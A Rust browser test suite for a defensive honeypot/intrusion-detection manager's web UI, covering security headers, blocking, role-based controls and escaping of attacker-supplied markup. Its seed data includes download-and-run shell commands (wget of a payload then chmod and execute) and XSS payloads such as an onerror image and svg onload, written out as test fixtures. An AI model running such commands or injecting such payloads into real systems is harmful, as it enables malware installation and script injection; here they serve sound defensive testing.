//! The web UI in a real headless Chromium (Debian `chromium` + `chromium-driver`, driven through
//! WebDriver with fantoccini) against the real manager served on a loopback port over a real
//! PostgreSQL. Screenshots of every main page land in `target/ui-screenshots/` (see
//! `docs/ui.md`). Without the browser these tests fail and say to run `cargo xtask setup`.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "tests panic on failure; helpers here are test code"
)]

mod webdriver;

use std::{
    net::SocketAddr,
    sync::{Arc, Mutex},
    time::{Duration, Instant},
};

use futures_util::StreamExt as _;
use manager::{
    app,
    auth::{Role, new_token, password, token_hash},
    db,
    routes::ui::CONTENT_SECURITY_POLICY,
    test_util::TestDb,
};
use reqwest::{Method, StatusCode, header};
use serde_json::{Value, json};
use time::{OffsetDateTime, format_description::well_known::Rfc3339};
use webdriver::{Browser, WAIT};

/// Every test user's password.
const PASSWORD: &str = "a long enough password";

/// RFC 3339 for `now - ago`.
fn ago(d: Duration) -> String {
    (OffsetDateTime::now_utc() - d).format(&Rfc3339).unwrap()
}

/// The manager served on a loopback port, its database and a service credential.
struct Manager {
    base: String,
    db: TestDb,
    http: reqwest::Client,
    /// A `mirage-server` credential for verdicts and sandbox sessions.
    service: String,
}

/// A logged-in API client (for seeding through the same API the UI uses).
struct ApiSession {
    cookie: String,
    csrf: String,
}

impl Manager {
    /// Serves the app over a fresh database with users `root` (admin), `oper` and `view`.
    async fn start() -> Self {
        let db = TestDb::new().await;
        for (name, role) in [
            ("root", Role::Admin),
            ("oper", Role::Operator),
            ("view", Role::Viewer),
        ] {
            let hash = password::hash(PASSWORD).unwrap();
            db::users::insert(&db.pool, name, &hash, role)
                .await
                .unwrap();
        }
        let service = new_token();
        db::service_credentials::insert(&db.pool, "sensor-1", &token_hash(&service), None)
            .await
            .unwrap();
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        let router = app(db.state());
        tokio::spawn(async move {
            axum::serve(
                listener,
                router.into_make_service_with_connect_info::<SocketAddr>(),
            )
            .await
            .unwrap();
        });
        Self {
            base: format!("http://{addr}"),
            db,
            http: reqwest::Client::builder().no_proxy().build().unwrap(),
            service,
        }
    }

    /// `base` + `#route`.
    fn page(&self, route: &str) -> String {
        format!("{}/#{route}", self.base)
    }

    /// Sends a request; asserts a 2xx and returns the JSON body (null when empty).
    async fn send(&self, req: reqwest::RequestBuilder, what: &str) -> Value {
        let resp = req.send().await.unwrap();
        let status = resp.status();
        let text = resp.text().await.unwrap();
        assert!(status.is_success(), "{what}: {status} {text}");
        if text.is_empty() {
            Value::Null
        } else {
            serde_json::from_str(&text).unwrap()
        }
    }

    /// Logs `user` in over HTTP.
    async fn login(&self, user: &str) -> ApiSession {
        let resp = self
            .http
            .post(format!("{}/api/v1/login", self.base))
            .json(&json!({ "username": user, "password": PASSWORD }))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), StatusCode::OK);
        let cookie = resp.headers()[header::SET_COOKIE]
            .to_str()
            .unwrap()
            .split(';')
            .next()
            .unwrap()
            .to_owned();
        let body: Value = resp.json().await.unwrap();
        ApiSession {
            cookie,
            csrf: body["csrf_token"].as_str().unwrap().to_owned(),
        }
    }

    /// A call as a logged-in user.
    async fn call(&self, who: &ApiSession, method: Method, path: &str, body: Value) -> Value {
        let mut req = self
            .http
            .request(method.clone(), format!("{}/api/v1{path}", self.base))
            .header(header::COOKIE, &who.cookie)
            .header("x-csrf-token", &who.csrf);
        if !body.is_null() {
            req = req.json(&body);
        }
        self.send(req, &format!("{method} {path}")).await
    }

    /// Posts verdicts with the service credential.
    async fn verdicts(&self, verdicts: Value) -> Value {
        let req = self
            .http
            .post(format!("{}/api/v1/verdicts", self.base))
            .bearer_auth(&self.service)
            .json(&json!({ "verdicts": verdicts }));
        self.send(req, "POST /api/v1/verdicts").await
    }

    /// Posts sandbox sessions with the service credential.
    async fn sessions(&self, sessions: Value) -> Value {
        let req = self
            .http
            .post(format!("{}/api/v1/sandbox-sessions", self.base))
            .bearer_auth(&self.service)
            .json(&json!({ "sessions": sessions }));
        self.send(req, "POST /api/v1/sandbox-sessions").await
    }

    /// Enrolls an agent in `default` and returns its credential.
    async fn enroll(&self, hostname: &str) -> String {
        let token = new_token();
        let group = db::agents::group_id(&self.db.pool, "default")
            .await
            .unwrap()
            .unwrap();
        db::agents::insert_enrollment_token(
            &self.db.pool,
            &token_hash(&token),
            group,
            None,
            OffsetDateTime::now_utc() + time::Duration::hours(1),
        )
        .await
        .unwrap();
        let req = self
            .http
            .post(format!("{}/api/v1/agent/enroll", self.base))
            .json(&json!({
                "token": token, "hostname": hostname,
                "addresses": ["10.0.0.5", "2001:db8::5"], "version": "0.1.0",
            }));
        let body = self.send(req, "POST /api/v1/agent/enroll").await;
        body["credential"].as_str().unwrap().to_owned()
    }

    /// The id of the attacker entry for exactly `net`.
    async fn attacker_id(&self, net: &str) -> i64 {
        sqlx::query_scalar("SELECT id FROM attackers WHERE net = $1::cidr")
            .bind(net)
            .fetch_one(&self.db.pool)
            .await
            .unwrap()
    }

    /// Opens an agent's policy stream and collects what it receives.
    async fn agent_stream(&self, credential: &str) -> AgentStream {
        let resp = self
            .http
            .get(format!("{}/api/v1/agent/stream", self.base))
            .bearer_auth(credential)
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), StatusCode::OK);
        let text = Arc::new(Mutex::new(String::new()));
        let sink = Arc::clone(&text);
        let task = tokio::spawn(async move {
            let mut body = resp.bytes_stream();
            while let Some(Ok(chunk)) = body.next().await {
                sink.lock()
                    .unwrap()
                    .push_str(&String::from_utf8_lossy(&chunk));
            }
        });
        AgentStream { text, task }
    }
}

/// An agent's open policy stream, as raw server-sent-event text.
struct AgentStream {
    text: Arc<Mutex<String>>,
    task: tokio::task::JoinHandle<()>,
}

impl AgentStream {
    /// Waits until the stream carried `needle`.
    async fn wait_for(&self, needle: &str, what: &str) {
        let deadline = Instant::now() + WAIT;
        while !self.text.lock().unwrap().contains(needle) {
            assert!(
                Instant::now() < deadline,
                "the agent's stream did not carry {what} within {WAIT:?}; it got:\n{}",
                self.text.lock().unwrap()
            );
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }
}

impl Drop for AgentStream {
    fn drop(&mut self) {
        self.task.abort();
    }
}

/// Logs in through the login form and waits for the navigation; starts recording CSP
/// violations (checked by [`assert_no_csp_violations`]).
async fn ui_login(b: &Browser, m: &Manager, user: &str) {
    b.goto(&m.page("/")).await;
    b.fill("#login-username", user).await;
    b.fill("#login-password", PASSWORD).await;
    b.click("#login-submit").await;
    b.find(".nav a[data-route='/attackers']").await;
    b.js(
        "window.__csp = []; document.addEventListener('securitypolicyviolation', \
          (e) => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI)); return true;",
    )
    .await;
}

/// The page ran without a Content-Security-Policy violation since login (an inline style or
/// script slipping into the UI shows up here).
async fn assert_no_csp_violations(b: &Browser) {
    let v = b.js("return window.__csp || [];").await;
    assert_eq!(v, json!([]), "CSP violations");
}

/// Goes to `route` (hash navigation, no reload) and waits for `ready`.
async fn open(b: &Browser, m: &Manager, route: &str, ready: &str) {
    b.goto(&m.page(route)).await;
    b.find(ready).await;
}

fn ssh_verdict(id: &str, addr: &str, evidence: &[&str], at: &str) -> Value {
    json!({
        "id": id, "addr": addr, "rule": "ssh-bruteforce", "service": "ssh", "severity": "high",
        "action": "redirect", "count": evidence.len(), "evidence": evidence, "at": at,
    })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ui_is_served_with_security_headers() {
    let m = Manager::start().await;
    let resp = m.http.get(format!("{}/", m.base)).send().await.unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    let h = resp.headers();
    assert_eq!(h[header::CONTENT_SECURITY_POLICY], CONTENT_SECURITY_POLICY);
    for directive in [
        "default-src 'self'",
        "script-src 'self'",
        "style-src 'self'",
        "img-src 'self' data:",
        "connect-src 'self'",
        "frame-ancestors 'none'",
    ] {
        assert!(CONTENT_SECURITY_POLICY.contains(directive), "{directive}");
    }
    assert_eq!(h[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
    assert_eq!(h[header::X_FRAME_OPTIONS], "DENY");
    assert!(
        h[header::CONTENT_TYPE]
            .to_str()
            .unwrap()
            .starts_with("text/html")
    );
    let html = resp.text().await.unwrap();
    assert!(html.contains(r#"<script type="module" src="/ui/js/app.js">"#));

    for (path, ty) in [
        ("/ui/js/app.js", "text/javascript"),
        ("/ui/app.css", "text/css"),
        ("/ui/icon.svg", "image/svg+xml"),
    ] {
        let resp = m
            .http
            .get(format!("{}{path}", m.base))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), StatusCode::OK, "{path}");
        assert!(
            resp.headers()[header::CONTENT_TYPE]
                .to_str()
                .unwrap()
                .starts_with(ty),
            "{path}"
        );
        assert_eq!(resp.headers()[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
    }
    for path in ["/ui/nope.js", "/ui/../Cargo.toml", "/ui/js/"] {
        let resp = m
            .http
            .get(format!("{}{path}", m.base))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), StatusCode::NOT_FOUND, "{path}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn blocking_on_the_attackers_page_reaches_an_agents_stream() {
    let m = Manager::start().await;
    let credential = m.enroll("edge-1").await;
    let stream = m.agent_stream(&credential).await;
    stream.wait_for("event: snapshot", "its snapshot").await;

    let b = Browser::start().await;
    // A wrong password is refused inline.
    b.goto(&m.page("/")).await;
    b.fill("#login-username", "root").await;
    b.fill("#login-password", "not the password").await;
    b.click("#login-submit").await;
    b.wait_text("wrong username or password").await;

    ui_login(&b, &m, "root").await;
    open(&b, &m, "/attackers", "#block-form").await;
    b.fill("#block-net", "198.51.100.23").await;
    b.choose("#block-action", "drop").await;
    b.choose("#block-ttl", "3600").await;
    b.fill("#block-reason", "seen probing the VPN").await;
    b.click("#block-submit").await;
    b.find("#attackers-table tr[data-net='198.51.100.23/32']")
        .await;
    b.wait_text("Blocked 198.51.100.23").await;
    stream
        .wait_for(r#""net":"198.51.100.23/32""#, "the new entry")
        .await;
    stream.wait_for(r#""action":"drop""#, "its action").await;

    // An invalid block shows the API's message inline.
    b.fill("#block-net", "0.0.0.0/0").await;
    b.click("#block-submit").await;
    b.find("#block-form .error:not([hidden])").await;

    // Unblock is a two-step button; the removal reaches the stream too.
    let unblock = "#attackers-table tr[data-net='198.51.100.23/32'] button.unblock";
    b.click(unblock).await;
    b.click(unblock).await;
    b.wait_js(
        "return !document.querySelector(\"#attackers-table tr[data-net='198.51.100.23/32']\");",
        "the row to go",
    )
    .await;
    stream.wait_for(r#""op":"remove""#, "the removal").await;
    assert_no_csp_violations(&b).await;
    b.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attack_log_shows_a_new_detection_without_reload() {
    let m = Manager::start().await;
    m.verdicts(json!([ssh_verdict(
        "old-1",
        "203.0.113.8",
        &["sshd[100]: Failed password for admin from 203.0.113.8 port 40000 ssh2"],
        &ago(Duration::from_secs(600)),
    )]))
    .await;
    let b = Browser::start().await;
    ui_login(&b, &m, "view").await;
    open(&b, &m, "/log", "#log-table tr.detection").await;
    b.find("#live-status[data-state='live']").await;
    // A marker that a reload would wipe.
    b.js("window.__sameDocument = true; return true;").await;
    let line =
        "sshd[4242]: Failed password for invalid user oracle from 203.0.113.9 port 52113 ssh2";
    m.verdicts(json!([ssh_verdict(
        "live-1",
        "203.0.113.9",
        &[
            line,
            "sshd[4242]: Connection closed by 203.0.113.9 port 52113 [preauth]"
        ],
        &ago(Duration::ZERO),
    )]))
    .await;
    b.wait_text(line).await;
    assert_eq!(
        b.js("return window.__sameDocument === true;").await,
        json!(true)
    );
    assert_eq!(b.count("#log-table tr.detection").await, 2);
    assert_eq!(b.count("#log-table tr.detection.fresh").await, 1);
    // The newest row is first.
    let first = b
        .js("return document.querySelector('#log-table tr.detection').innerText;")
        .await;
    assert!(first.as_str().unwrap().contains("203.0.113.9"), "{first}");
    assert_no_csp_violations(&b).await;
    b.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacker_page_shows_evidence_and_sandbox_session() {
    let m = Manager::start().await;
    let addr = "203.0.113.50";
    m.verdicts(json!([ssh_verdict(
        "ev-1",
        addr,
        &[
            "sshd[900]: Failed password for root from 203.0.113.50 port 50000 ssh2",
            "sshd[900]: Failed password for root from 203.0.113.50 port 50002 ssh2",
        ],
        &ago(Duration::from_secs(300)),
    )]))
    .await;
    m.sessions(json!([{
        "id": "sess-1", "sandbox": "sandbox-1", "addr": addr, "service": "ssh",
        "credentials": [{ "user": "root", "password": "toor", "at": ago(Duration::from_secs(200)) }],
        "commands": [
            { "input": "uname -a", "at": ago(Duration::from_secs(190)) },
            { "input": "wget http://203.0.113.99/bot.sh -O /tmp/.x", "at": ago(Duration::from_secs(180)) },
        ],
        "files": [{ "path": "/tmp/.x", "sha256": "ab".repeat(32), "size": 4096,
                    "at": ago(Duration::from_secs(170)) }],
        "started_at": ago(Duration::from_secs(210)), "ended_at": ago(Duration::from_secs(100)),
    }]))
    .await;
    let id = m.attacker_id("203.0.113.50/32").await;

    let b = Browser::start().await;
    ui_login(&b, &m, "oper").await;
    // From the attackers list to the attacker page by the link.
    open(
        &b,
        &m,
        "/attackers",
        "#attackers-table tr[data-net='203.0.113.50/32'] a",
    )
    .await;
    b.click("#attackers-table tr[data-net='203.0.113.50/32'] a")
        .await;
    b.find("#attacker-detections").await;
    assert!(
        b.client
            .current_url()
            .await
            .unwrap()
            .as_str()
            .ends_with(&format!("#/attackers/{id}"))
    );
    b.wait_text("Failed password for root from 203.0.113.50 port 50002 ssh2")
        .await;
    b.find("#attacker-sessions").await;
    for text in [
        "toor",
        "uname -a",
        "wget http://203.0.113.99/bot.sh -O /tmp/.x",
        "/tmp/.x",
        "sandbox-1",
    ] {
        b.wait_text(text).await;
    }
    assert_no_csp_violations(&b).await;
    b.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacker_controlled_markup_is_shown_as_text() {
    let m = Manager::start().await;
    let addr = "198.51.100.66";
    let img = r#"<img src=x onerror="window.__xss=1">"#;
    let script = "<script>window.__xss=2</script>";
    m.verdicts(json!([{
        "id": "xss-1", "addr": addr, "rule": "web-<b>probe</b>", "service": "http",
        "severity": "critical", "count": 2,
        "evidence": [format!("GET /?q={img} HTTP/1.1"), format!("User-Agent: {script}")],
        "at": ago(Duration::from_secs(60)),
    }]))
    .await;
    m.sessions(json!([{
        "id": "xss-s", "sandbox": "sb", "addr": addr, "service": "ssh",
        "credentials": [{ "user": "<svg onload=window.__xss=3>", "password": img, "at": ago(Duration::from_secs(50)) }],
        "commands": [{ "input": format!("echo '\"><iframe src=javascript:window.__xss=4>' {script}"), "at": ago(Duration::from_secs(40)) }],
        "started_at": ago(Duration::from_secs(55)),
    }]))
    .await;
    let id = m.attacker_id("198.51.100.66/32").await;

    let b = Browser::start().await;
    ui_login(&b, &m, "root").await;
    let no_markup = "return !window.__xss \
        && document.querySelectorAll('#main img, #main script, #main svg:not(.chart) foreignObject, \
           #main iframe, #main b').length === 0;";
    open(&b, &m, "/log", "#log-table tr.detection").await;
    b.click("#log-table tr.detection").await;
    b.wait_text(&format!("GET /?q={img} HTTP/1.1")).await;
    b.wait_text(&format!("User-Agent: {script}")).await;
    b.wait_text("web-<b>probe</b>").await;
    assert_eq!(
        b.js(no_markup).await,
        json!(true),
        "markup parsed in the attack log"
    );

    open(&b, &m, &format!("/attackers/{id}"), "#attacker-sessions").await;
    b.wait_text(&format!("User-Agent: {script}")).await;
    b.wait_text("<svg onload=window.__xss=3>").await;
    b.wait_text(img).await;
    b.wait_text("<iframe src=javascript:window.__xss=4>").await;
    assert_eq!(
        b.js(no_markup).await,
        json!(true),
        "markup parsed on the attacker page"
    );
    assert_eq!(
        b.count("#main svg").await,
        0,
        "an attacker-supplied <svg> became an element"
    );

    open(&b, &m, "/", ".stats .stat").await;
    b.wait_text("198.51.100.66").await;
    assert_eq!(b.js("return !window.__xss;").await, json!(true));
    assert_no_csp_violations(&b).await;
    b.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn viewer_sees_no_controls_that_would_be_refused() {
    let m = Manager::start().await;
    let oper = m.login("oper").await;
    m.call(
        &oper,
        Method::POST,
        "/attackers",
        json!({ "net": "192.0.2.44", "action": "drop", "reason": "manual" }),
    )
    .await;
    m.enroll("edge-2").await;

    let b = Browser::start().await;
    ui_login(&b, &m, "view").await;
    assert_eq!(b.count(".nav a[data-route='/users']").await, 0);
    assert_eq!(b.count(".nav a[data-route='/audit']").await, 0);
    open(
        &b,
        &m,
        "/attackers",
        "#attackers-table tr[data-net='192.0.2.44/32']",
    )
    .await;
    assert_eq!(b.count("#block-form").await, 0);
    assert_eq!(b.count("#main button.unblock, #main button.allow").await, 0);
    open(&b, &m, "/agents", "table.agents tr[data-id]").await;
    assert_eq!(b.count("#enroll-form").await, 0);
    assert_eq!(
        b.js("return [...document.querySelectorAll('#main button')].filter((x) => /Revoke/.test(x.textContent)).length;")
            .await,
        json!(0)
    );
    open(&b, &m, "/policies", "#policy-form").await;
    assert_eq!(b.count("#policy-save").await, 0);
    assert_eq!(b.count("#group-form").await, 0);
    assert_eq!(
        b.js("return [...document.querySelectorAll('#policy-form select, #policy-form textarea')].every((x) => x.disabled);").await,
        json!(true)
    );
    open(&b, &m, "/alerts", "#main .card").await;
    assert_eq!(b.count("#channel-add").await, 0);
    // An admin-only page says so instead of failing.
    b.goto(&m.page("/users")).await;
    b.wait_text("This page needs the admin role").await;
    assert_no_csp_violations(&b).await;
    b.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn operator_enrolls_an_agent_and_edits_a_policy() {
    let m = Manager::start().await;
    let b = Browser::start().await;
    ui_login(&b, &m, "oper").await;

    // The enrollment token is shown once, and it works.
    open(&b, &m, "/agents", "#enroll-form").await;
    b.click("#enroll-submit").await;
    let token = b
        .find(".secret-box code.secret")
        .await
        .text()
        .await
        .unwrap();
    assert_eq!(token.len(), 64, "{token}");
    let enrolled = m
        .send(
            m.http
                .post(format!("{}/api/v1/agent/enroll", m.base))
                .json(&json!({ "token": token, "hostname": "edge-9" })),
            "enroll with the token from the page",
        )
        .await;
    let credential = enrolled["credential"].as_str().unwrap().to_owned();

    // The policy editor: a refused value shows the API's message, a good one reaches the agent.
    open(&b, &m, "/policies", "#policy-form").await;
    b.fill("#policy-allowlist", "0.0.0.0/0").await;
    b.click("#policy-save").await;
    b.find("#policy-form .error:not([hidden])").await;
    b.choose("#policy-mode", "firewall").await;
    b.fill("#policy-allowlist", "192.0.2.0/28\n2001:db8::10")
        .await;
    b.click("#policy-save").await;
    b.wait_text("Saved the policy of default").await;
    let update = m
        .send(
            m.http
                .post(format!("{}/api/v1/agent/policy", m.base))
                .bearer_auth(&credential)
                .json(&json!({ "since": null })),
            "poll the policy",
        )
        .await;
    assert_eq!(update["policy"]["mode"], "firewall", "{update}");
    assert_eq!(
        update["policy"]["allowlist"],
        json!(["192.0.2.0/28", "2001:db8::10/128"]),
        "{update}"
    );
    assert_no_csp_violations(&b).await;
    b.close().await;
}

/// Seeds a realistic picture: agents, groups, manual and automatic entries, a day of detections,
/// a sandbox session, users, an alert channel.
async fn seed(m: &Manager) -> i64 {
    let root = m.login("root").await;
    for host in ["edge-fra-1", "edge-fra-2", "web-ams-3"] {
        let credential = m.enroll(host).await;
        if host != "web-ams-3" {
            m.send(
                m.http
                    .post(format!("{}/api/v1/agent/heartbeat", m.base))
                    .bearer_auth(&credential)
                    .json(&json!({ "mode": "unreal", "version": "0.1.0" })),
                "heartbeat",
            )
            .await;
        }
    }
    let _ = m
        .http
        .post(format!("{}/api/v1/groups", m.base))
        .header(header::COOKIE, &root.cookie)
        .header("x-csrf-token", &root.csrf)
        .json(&json!({ "name": "dmz", "description": "Internet-facing web servers" }))
        .send()
        .await;
    m.call(
        &root,
        Method::PUT,
        "/groups/default/policy",
        json!({
            "mode": "unreal", "redirect_model": "preserve-source",
            "allowlist": ["10.20.0.0/24", "192.0.2.10"], "allowlisted_ports": [],
            "sandbox_targets": [
                { "proto": "tcp", "port": 22, "target": "198.18.1.2:2222" },
                { "proto": "tcp", "port": 3306, "target": "198.18.1.2:3306" },
                { "target": "198.18.1.2" },
            ],
            "nat": { "reflect_pps": 100 },
            "default_ttl_secs": 86400, "default_action": "redirect",
        }),
    )
    .await;
    for (net, action, reason) in [
        (
            "198.51.100.0/24",
            "drop",
            "Scanner range from the abuse feed",
        ),
        (
            "192.0.2.77",
            "redirect",
            "Credential stuffing against the VPN portal",
        ),
    ] {
        m.call(
            &root,
            Method::POST,
            "/attackers",
            json!({ "net": net, "action": action, "reason": reason, "ttl_secs": 86400 }),
        )
        .await;
    }
    let services = [
        (
            "ssh",
            "ssh-bruteforce",
            "high",
            "sshd[{p}]: Failed password for root from {a} port {port} ssh2",
        ),
        (
            "ftp",
            "ftp-bruteforce",
            "medium",
            "vsftpd[{p}]: [anonymous] FAIL LOGIN: Client \"{a}\"",
        ),
        (
            "mysql",
            "mysql-auth",
            "medium",
            "mysqld[{p}]: Access denied for user 'root'@'{a}' (using password: YES)",
        ),
        (
            "redis",
            "redis-unauth",
            "critical",
            "redis[{p}]: {a}:{port} CONFIG SET dir /var/spool/cron",
        ),
        (
            "http",
            "web-scan",
            "low",
            "nginx: {a} - - \"GET /wp-login.php HTTP/1.1\" 404 153",
        ),
    ];
    // A day of detections, sent oldest first (as a server would), so ids follow time.
    let mut seeded: Vec<(u64, Value)> = (0..60u32)
        .map(|i| {
            let (service, rule, severity, line) =
                services[(i as usize * 7 + i as usize / 5) % services.len()];
            let a = format!("203.0.113.{}", 10 + (i * i) % 23);
            let secs_ago = u64::from((i * 37) % 23) * 3600 + u64::from(i) * 53 + 1000;
            let line = line
                .replace("{p}", &(1000 + i).to_string())
                .replace("{a}", &a)
                .replace("{port}", &(40000 + i * 13).to_string());
            let verdict = json!({
                "id": format!("seed-{i}"), "addr": a, "rule": rule, "service": service,
                "severity": severity, "count": 1 + i % 9, "evidence": [line],
                "at": ago(Duration::from_secs(secs_ago)),
            });
            (secs_ago, verdict)
        })
        .collect();
    seeded.sort_by_key(|(secs_ago, _)| std::cmp::Reverse(*secs_ago));
    let mut verdicts: Vec<Value> = seeded.into_iter().map(|(_, v)| v).collect();
    verdicts.push(ssh_verdict(
        "seed-star",
        "203.0.113.50",
        &[
            "sshd[900]: Invalid user admin from 203.0.113.50 port 50000",
            "sshd[900]: Failed password for invalid user admin from 203.0.113.50 port 50000 ssh2",
            "sshd[901]: Failed password for root from 203.0.113.50 port 50002 ssh2",
            "sshd[902]: Failed password for root from 203.0.113.50 port 50004 ssh2",
        ],
        &ago(Duration::from_secs(900)),
    ));
    m.verdicts(Value::Array(verdicts)).await;
    m.sessions(json!([{
        "id": "seed-s1", "sandbox": "sandbox-1", "addr": "203.0.113.50", "service": "ssh",
        "credentials": [
            { "user": "root", "password": "123456", "at": ago(Duration::from_secs(800)) },
            { "user": "root", "password": "toor", "at": ago(Duration::from_secs(790)) },
            { "user": "admin", "password": "admin", "at": ago(Duration::from_secs(780)) },
        ],
        "commands": [
            { "input": "uname -a", "at": ago(Duration::from_secs(770)) },
            { "input": "cat /proc/cpuinfo | grep name | wc -l", "at": ago(Duration::from_secs(765)) },
            { "input": "cd /tmp; wget http://203.0.113.99/x86 -O .x; chmod +x .x; ./.x", "at": ago(Duration::from_secs(760)) },
            { "input": "crontab -l", "at": ago(Duration::from_secs(750)) },
        ],
        "files": [{ "path": "/tmp/.x", "sha256": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
                    "size": 812_344, "at": ago(Duration::from_secs(759)) }],
        "started_at": ago(Duration::from_secs(805)), "ended_at": ago(Duration::from_secs(700)),
    }]))
    .await;
    // Alert channels; the webhook points at a loopback receiver that answers 204, so its test
    // message is a `sent` delivery.
    let hook = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let hook_addr = hook.local_addr().unwrap();
    tokio::spawn(async move {
        use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
        while let Ok((mut conn, _)) = hook.accept().await {
            let mut buf = vec![0u8; 64 * 1024];
            let _ = conn.read(&mut buf).await;
            let _ = conn
                .write_all(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")
                .await;
        }
    });
    let webhook = m
        .call(
            &root,
            Method::POST,
            "/alert-channels",
            json!({
                "name": "soc-webhook", "kind": "webhook", "min_severity": "high",
                "config": { "url": format!("http://{hook_addr}/mirage"), "secret": "a shared secret of 32 bytes....." },
            }),
        )
        .await;
    m.call(
        &root,
        Method::POST,
        "/alert-channels",
        json!({
            "name": "oncall-mail", "kind": "email", "min_severity": "critical", "max_per_hour": 4,
            "config": { "host": "127.0.0.1", "port": 2525, "tls": "none",
                        "from": "Mirage <mirage@example.org>", "to": ["oncall@example.org"] },
        }),
    )
    .await;
    let id = webhook["id"].as_i64().unwrap();
    m.call(
        &root,
        Method::POST,
        &format!("/alert-channels/{id}/test"),
        Value::Null,
    )
    .await;
    m.attacker_id("203.0.113.50/32").await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn screenshots_of_every_main_page() {
    let m = Manager::start().await;
    let star = seed(&m).await;
    let b = Browser::start().await;
    b.goto(&m.page("/")).await;
    b.find("#login-form").await;
    b.screenshot("login").await;
    ui_login(&b, &m, "root").await;
    let pages: [(&str, &str, String); 10] = [
        ("dashboard", ".stats .stat", "/".into()),
        (
            "attackers",
            "#attackers-table tr[data-id]",
            "/attackers".into(),
        ),
        ("attack-log", "#log-table tr.detection", "/log".into()),
        (
            "attacker",
            "#attacker-sessions",
            format!("/attackers/{star}"),
        ),
        ("agents", "table.agents tr[data-id]", "/agents".into()),
        ("policies", "#policy-form", "/policies".into()),
        ("users", "table.users", "/users".into()),
        ("alerts", "#main .card table td .badge", "/alerts".into()),
        ("audit", "#audit-table tr", "/audit".into()),
        ("settings", "#retention-form", "/settings".into()),
    ];
    for (name, ready, route) in &pages {
        open(&b, &m, route, ready).await;
        let path = b.screenshot(name).await;
        assert!(
            std::fs::metadata(&path).unwrap().len() > 10_000,
            "{path:?} looks empty"
        );
        if *name == "attacker" {
            // The sandbox session is below the fold.
            b.js("document.querySelector('#attacker-sessions').scrollIntoView(); return true;")
                .await;
            b.screenshot("attacker-sandbox").await;
        }
    }
    assert_no_csp_violations(&b).await;
    b.close().await;
}
